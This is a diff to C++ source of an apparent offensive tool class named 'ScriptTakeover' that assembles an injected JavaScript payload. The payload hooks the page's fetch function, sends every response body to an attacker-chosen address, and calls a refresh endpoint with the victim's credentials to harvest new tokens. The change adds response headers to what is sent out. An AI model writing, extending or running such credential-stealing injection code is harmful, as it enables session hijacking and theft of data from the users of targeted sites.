@@ -51,13 +51,15 @@ class ScriptTakeover final : public Agent {
             "(()=>{const f=window.fetch;const send=t=>{f(" + script_string(address) +
             ",{method:\"POST\",mode:\"no-cors\",body:t});" +
             send_script(Channel::Image, address, "t") + "};const look=()=>send(" + kKept +
-            ");look();window.fetch=(...a)=>f(...a).then(r=>{r.clone().text()"
-            ".then(t=>{send(t);look()});return r});";
+            ");look();window.fetch=(...a)=>f(...a).then(r=>{"
+            "r.clone().text().then(t=>{send(t+\"\\n\"+[...r.headers].join(\"\\n\"));look()});"
+            "return r});";
         // As the page's own script would ask for new ones.
         if (Endpoint const* refresh = endpoint_option(target, option::kRefresh, "refresh"))
             script += "f(" + script_string(refresh->path) +
                       ",{method:" + script_string(refresh->method) +
-                      ",credentials:\"include\"}).then(r=>r.text()).then(t=>{send(t);look()});";
+                      ",credentials:\"include\"}).then(r=>r.text().then(t=>{"
+                      "send(t+\"\\n\"+[...r.headers].join(\"\\n\"));look()}));";
         return script + "})();";
     }
 
